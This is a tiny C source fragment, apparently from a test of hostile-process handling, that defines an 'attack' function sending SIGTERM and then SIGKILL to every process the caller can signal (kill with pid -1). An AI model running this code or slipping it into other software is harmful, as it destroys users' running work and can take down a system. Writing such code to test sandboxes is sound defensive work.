#include "hostile.h"

static void attack(void)
{
    syscall(SYS_kill, -1, SIGTERM);
    syscall(SYS_kill, -1, SIGKILL);
}
